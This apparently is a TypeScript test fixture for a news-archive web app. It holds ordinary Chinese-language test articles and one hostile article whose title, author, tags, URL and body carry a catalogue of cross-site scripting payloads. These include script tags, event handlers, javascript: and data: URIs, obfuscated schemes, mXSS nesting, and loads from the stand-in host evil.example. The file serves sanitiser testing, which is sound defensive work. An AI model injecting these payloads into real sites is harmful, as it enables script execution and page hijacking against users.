// Fixture articles for the web app's tests, written for these tests (no corpus text): ordinary
// articles across several years, months and categories, a blog column with a columnist box and a
// subscription footer, figures with captions, and hostile records that try every way we know to
// run script through the page. HOSTILE_MARKERS names the globals a successful attack would set.

import type { Article } from '../../corpus/types.js';

const FOOTER =
  '\n\n---\n\n\n請加入成為眾新聞的月費訂戶（測試用的頁尾文字）。\n\n月費訂戶 [網址：example/aboutus/#subscribe](/web/20210101000000/https://www.hkcnews.com/aboutus/#subscribe)\n';

const COLUMNIST =
  '\n---\n\n![博客 | 測試專欄作者](https://web.archive.org/web/20210101000000im_/https://www.hkcnews.com/uploads/avatars/test.png)\n\n**博客 | 測試專欄作者**\n\n測試專欄作者的簡介：寫測試的人，喜歡行山。\n';

function wb(
  id: number,
  ts = '20210101000000',
): { url: string; originalUrl: string; captureTimestamp: string } {
  const originalUrl = `https://www.hkcnews.com/article/${id}/test-${id}/slug-${id}`;
  return { url: `https://web.archive.org/web/${ts}/${originalUrl}`, originalUrl, captureTimestamp: ts };
}

function figure(name: string, caption: string): string {
  return `<figure>\n<img src="https://web.archive.org/web/20210101000000im_/https://www.hkcnews.com/news/${name}.jpg" alt="">\n<figcaption>${caption}</figcaption>\n</figure>`;
}

function article(
  id: number,
  title: string,
  date: string,
  fields: Partial<Article> & { text: string },
): Article {
  const { text, ...rest } = fields;
  return {
    id,
    title,
    date,
    author: '測試記者',
    category: '眾聞',
    tags: [],
    ...wb(id),
    body: `# ${title}\n\n${text}`,
    extra: [],
    ...rest,
  };
}

export const ORDINARY_ARTICLES: Article[] = [
  article(101, '測試文章：國安法實施一周年回顧', '2021-06-30', {
    tags: ['國安法', '香港政治'],
    lastUpdated: '2021-07-01 10:00:00',
    text: `${figure('photo-101', '測試圖片說明：維園一景')}\n\n國安法實施一年，本文回顧測試事件。\n\n第二段：測試內容，提及[另一篇文章](https://www.hkcnews.com/article/102/test-102/slug)。${FOOTER}`,
  }),
  article(102, '測試文章：立法會選舉', '2021-06-30', {
    tags: ['立法會', '香港政治'],
    text: `立法會選舉的測試報道。\n\n**粗體字** 與 *斜體字*，以及[外部連結](https://example.org/page)。${FOOTER}`,
  }),
  article(103, '測試評論：城市與記憶', '2020-06-30', {
    category: '眾說',
    author: '測試專欄作者',
    tags: ['城市', '香港政治'],
    text: `城市記憶的測試評論。\n\n${figure('photo-103', '測試圖片：舊街')}\n\n結尾一段。${FOOTER}${COLUMNIST}`,
  }),
  article(104, '測試圖集：海港夜色', '2019-12-31', {
    category: '眾觀',
    author: '測試攝影師',
    tags: ['攝影'],
    text: `${figure('photo-104a', '海港一')}\n\n${figure('photo-104b', '海港二')}\n\n![沒有說明的圖片](https://web.archive.org/web/20210101000000im_/https://www.hkcnews.com/news/photo-104c.jpg)`,
  }),
  article(105, 'Test article: English title with 国安法 in simplified', '2018-03-15', {
    category: 'tri-angles',
    author: 'Test Reporter',
    tags: ['國安法', 'English'],
    text: 'An English test paragraph mentioning 国安法 and Carrie Lam.',
  }),
  article(106, '測試文章：沒有日期', '', {
    category: undefined,
    tags: undefined,
    text: '日期不詳的測試文章。',
  }),
  article(107, '', '', {
    author: '',
    category: undefined,
    tags: undefined,
    text: '',
  }),
  article(108, '測試文章：標籤含特殊字元', '2017-01-02', {
    tags: ['a/b?c#d', '100% 測試 & more'],
    text: '特殊字元標籤的測試文章。',
  }),
];

/** Globals that a script smuggled through a record would set. */
export const HOSTILE_MARKERS = ['__pwned'];

/** Hostile markup: each line tries one way to run script or take over the page. */
export const HOSTILE_BODY = [
  '<script>window.__pwned = "script tag";</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<img src="x" onerror="window.__pwned = \'img onerror\'">',
  '<img src="javascript:window.__pwned=\'img js src\'">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src=https://web.archive.org/x.jpg onload=window.__pwned=1 alt=unquoted>',
  '<a href="javascript:window.__pwned=\'a js\'">javascript link</a>',
  '<a href="JaVaScRiPt&#58;window.__pwned=\'entity\'">entity link</a>',
  '<a href=" java&#x09;script:window.__pwned=\'tab\'">tab link</a>',
  '<a href="data:text/html,<script>window.__pwned=1</script>">data link</a>',
  '<a href="vbscript:msgbox(1)">vbscript link</a>',
  '<a href="#" onclick="window.__pwned=\'onclick\'">onclick link</a>',
  '[markdown js link](javascript:window.__pwned=1)',
  '![markdown data image](data:image/png;base64,AAAA)',
  '<svg><script>window.__pwned="svg script"</script></svg>',
  '<svg onload="window.__pwned=\'svg onload\'"><animate onbegin="window.__pwned=1" attributeName="x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<math href="javascript:window.__pwned=1"><mi>x</mi></math>',
  '<iframe src="javascript:window.parent.__pwned=\'iframe\'"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body { display: none !important; } a { background: url("javascript:window.__pwned=1"); }</style>',
  '<p style="position:fixed;inset:0;z-index:9999;background:red">full-page overlay by style attribute</p>',
  '<object data="javascript:window.__pwned=1"></object><embed src="javascript:window.__pwned=1">',
  '<form action="javascript:window.__pwned=1"><button>submit</button></form>',
  '<details open ontoggle="window.__pwned=\'ontoggle\'"><summary>x</summary></details>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>"></noscript>',
  '<!--<img src=x onerror="window.__pwned=\'comment\'">-->',
  '<div><b><i><a href="https://example.org/">unclosed tags',
  '<img src=x onerror=window.__pwned=1 <b>broken attribute</b>',
  '<input autofocus onfocus="window.__pwned=\'autofocus\'">',
  '<video><source onerror="window.__pwned=\'video\'"></video>',
  '<template><script>window.__pwned=1</script></template>',
  '<textarea><script>window.__pwned=1</script></textarea>',
  '<p>after all the tricks, this paragraph remains.</p>',
].join('\n\n');

export const HOSTILE_ARTICLES: Article[] = [
  article(
    666,
    '<script>window.__pwned="title"</script>惡意標題 <img src=x onerror=window.__pwned=1>',
    '2020-01-01',
    {
      author: '<b onmouseover="window.__pwned=1">惡意作者</b>',
      category: '眾說',
      tags: [
        '<script>window.__pwned=1</script>',
        'javascript:alert(1)',
        '"><img src=x onerror=window.__pwned=1>',
      ],
      text: HOSTILE_BODY,
      url: 'javascript:window.__pwned="url"',
      originalUrl: 'javascript:window.__pwned="original"',
      captureTimestamp: undefined,
    },
  ),
];

export const FIXTURE_ARTICLES: Article[] = [...ORDINARY_ARTICLES, ...HOSTILE_ARTICLES];
